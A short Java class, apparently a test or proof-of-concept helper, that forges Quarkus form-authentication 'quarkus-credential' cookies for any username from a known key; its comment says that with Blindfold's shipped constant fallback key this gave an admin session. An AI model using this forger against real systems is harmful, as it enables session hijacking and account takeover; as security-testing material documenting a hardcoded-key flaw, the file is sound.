package dev.blindfold.identity;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.SecureRandom;
import java.util.Base64;
import javax.crypto.Cipher;
import javax.crypto.spec.GCMParameterSpec;
import javax.crypto.spec.SecretKeySpec;

/**
 * A {@code quarkus-credential} cookie minted exactly as Quarkus form authentication (PersistentLoginManager, 3.33)
 * mints it: AES-256-GCM under SHA-256 of the key, a 12-byte IV, base64(ivLength | iv | ciphertext) of
 * {@code <expiry millis>:<username>}. With the constant fallback key Blindfold shipped, this was an admin session.
 */
public final class ForgedQuarkusCookie {

    private ForgedQuarkusCookie() {
    }

    public static String mint(String key, String username) throws Exception {
        SecretKeySpec aes = new SecretKeySpec(MessageDigest.getInstance("SHA-256")
                .digest(key.getBytes(StandardCharsets.UTF_8)), "AES");
        byte[] iv = new byte[12];
        new SecureRandom().nextBytes(iv);
        Cipher cipher = Cipher.getInstance("AES/GCM/NoPadding");
        cipher.init(Cipher.ENCRYPT_MODE, aes, new GCMParameterSpec(128, iv));
        long expiry = System.currentTimeMillis() + 3_600_000;
        byte[] sealed = cipher.doFinal((expiry + ":" + username).getBytes(StandardCharsets.UTF_8));
        ByteBuffer out = ByteBuffer.allocate(1 + iv.length + sealed.length);
        out.put((byte) iv.length).put(iv).put(sealed);
        return Base64.getEncoder().encodeToString(out.array());
    }
}
